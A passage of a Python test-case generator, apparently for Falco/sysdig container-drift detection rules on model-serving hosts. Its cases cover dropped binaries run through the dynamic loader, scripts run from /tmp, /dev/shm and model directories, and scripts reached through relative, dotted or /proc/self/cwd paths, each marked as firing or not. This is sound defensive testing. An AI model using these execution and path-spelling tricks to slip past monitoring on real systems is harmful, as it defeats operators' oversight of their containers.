    # /tmp); the dropped file is only its argument.
    for path, name in [
        (LD_LINUX, "ld-linux-x86-64"),  # as given (what sysdig 0.29 reports)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld-linux-x86-64"),  # resolved (Falco)
        ("/lib/x86_64-linux-gnu/ld-2.31.so", "ld-linux-x86-64"),  # glibc before 2.34, resolved
        ("/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64."),  # musl (the name is cut at 15 characters)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "x"),  # a link to the loader, resolved
        ("/usr/bin/ld.so", "ld.so"),  # Debian's ld.so link, as given
    ]:
        cases.append(
            case(
                group,
                label(path, f"({name})"),
                DROPPED_G2,
                exec_as(
                    DROPPED_G2, path=path, argv=[LD_LINUX, "/tmp/sgcap-g2-dropped", "sgcap-g2"], name=name
                ),
                fires(DRIFT, True, EXEC, count=1),
                fires(DRIFT, True, THREAD, count=1),  # on the execve only
                witness=(shows(EXEC, {"proc.exepath": path, "proc.name": name}),),
            )
        )
    # (Not ldd: glibc's ldd is a bash script, which runs the loader itself: rules 3 and 7 both fire.)
    group = "the linker is not the loader"
    for path, name in [("/usr/bin/ld", "ld"), ("/usr/bin/ld.bfd", "ld.bfd")]:
        cases.append(
            case(
                group,
                label(path),
                DROPPED_G2,
                exec_as(DROPPED_G2, path=path, argv=[path, "--version"], name=name),
                fires(DRIFT, False, THREAD),
                witness=(shows(EXEC),),
            )
        )
    group = "a program run from a model dir is drift"  # emptyDir and volumes are not the upper layer
    for path, yes in [
        ("/mnt/models/tool", True),
        ("/data/.x", True),
        ("/root/.cache/huggingface/x", True),
        ("/models/resnet/1/run", True),
        ("/usr/local/bin/tritonserver", False),  # from the image (its upper-layer flag is for Falco)
    ]:
        cases.append(
            case(
                group,
                label(path),
                DROPPED_G2,
                exec_as(DROPPED_G2, path=path, argv=[path, "sgcap-g2"]),
                fires(DRIFT, yes, EXEC),
            )
        )
    # A script in a writable dir run by an interpreter, or by its shebang (the executable Falco
    # reports is the interpreter's, the process is named after the script).
    group = "a script run from a writable dir is drift"
    for path, argv, name, yes in [
        ("/usr/bin/python3.11", ["/usr/bin/python3", "/tmp/x.py", "a"], "x.py", True),  # #!/usr/bin/python3
        ("/usr/bin/python3.11", ["python3", "/tmp/x.py"], "python3", True),
        ("/usr/local/bin/python3.11", ["python", "/dev/shm/.x"], "python", True),
        ("/usr/bin/dash", ["/bin/sh", "/dev/shm/.x.sh"], ".x.sh", True),
        ("/usr/bin/bash", ["bash", "/var/tmp/run.sh"], "bash", True),
        ("/usr/bin/perl", ["/usr/bin/perl", "/tmp/x.pl"], "x.pl", True),
        ("/usr/bin/node", ["node", "/tmp/x.js"], "node", True),
        # Scripts of the image, options before the script, programs that are no interpreter.
        ("/usr/bin/python3.11", ["python3", "/app/serve.py"], "python3", False),
        (
            "/usr/bin/python3.11",
            ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
            "gunicorn",
            False,
        ),
        ("/usr/bin/cat", ["cat", "/tmp/x.py"], "cat", False),
        ("/usr/bin/gawk", ["awk", "/tmp/ {print $1}"], "awk", False),
        # The recordings' script directory, declared in the captures' override
        # (serving_guard_allowed_script_dirs).
        ("/usr/bin/python3.11", ["python3", "/tmp/sgscen/x.py"], "python3", False),
    ]:
        cases.append(
            case(
                group,
                label(path, argv),
                DROPPED_G2,
                exec_as(DROPPED_G2, path=path, argv=argv, name=name),
                fires(DRIFT, yes, EXEC),
                witness=(shows(EXEC, {"proc.exepath": path, "proc.args": " ".join(argv[1:])}),),
            )
        )
    # A dropped script run by a relative path from a writable working directory, or by a path
    # spelled with '.', '..', '//' or /proc segments.
    group = "a script run by a relative or dotted path from a writable dir is drift"
    for argv, name, cwd, yes in [
        (["python3", "x.py"], "python3", "/dev/shm", True),  # cd /dev/shm && python3 x.py
        (["python3", "./x.py"], "python3", "/tmp/", True),
        (["/usr/bin/python3", "./x.py"], "x.py", "/tmp/", True),  # ./x.py through its shebang
        (["sh", "x.sh"], "sh", "/var/tmp", True),
        (["python3", "/./tmp/x.py"], "python3", "/", True),
        (["python3", "/usr/../tmp/x.py"], "python3", "/", True),
        (["python3", "//tmp/x.py"], "python3", "/", True),
        (["python3", "/proc/self/cwd/x.py"], "python3", "/tmp", True),
        (["python3", "../tmp/x.py"], "python3", "/usr", True),
        # A working directory entered through /proc: its directory cannot be read from it.
        # (libsinsp normalizes '..', '.' and '//' in the path of chdir.)
        (["python3", "x.py"], "python3", "/proc/self/root/tmp", True),
        (["python3", "x.py"], "python3", "/proc/1/cwd", True),  # PID 1's cwd is /tmp
        (["sh", "x.sh"], "sh", "/proc/self/cwd", True),
        # A relative script elsewhere, options first, no script, the recordings' script directory.
        (["python3", "serve.py", "--port", "8000"], "python3", "/app", False),
        (["python3", "-u", "-m", "vllm.entrypoints.openai.api_server"], "python3", "/tmp", False),
        (["python3"], "python3", "/tmp", False),
        (["python3", "x.py"], "python3", "/tmp/sgscen/", False),
        (["python3", "/app/serve.py", "--model-dir", "./models"], "python3", "/tmp", False),
        (["busybox", "ls", "-l"], "busybox", "/tmp", False),
    ]:
        path = {"sh": "/usr/bin/dash", "busybox": "/usr/bin/busybox"}.get(argv[0], "/usr/bin/python3.11")
        cases.append(
            case(
                group,
                label(argv, "in", cwd),
                DROPPED_G2,
                exec_as(DROPPED_G2, path=path, argv=argv, name=name, cwd=cwd),
                fires(DRIFT, yes, EXEC),
                witness=(shows(EXEC, {"proc.args": " ".join(argv[1:]), "proc.cwd": cwd.rstrip("/") + "/"}),),
            )
        )
    return cases


def exec_cases() -> list[DerivedCase]:
    return [*_shells(), *_triton(), *_modelcar(), *_terminals(), *_reverse_shells(), *_downloads(), *_drift()]
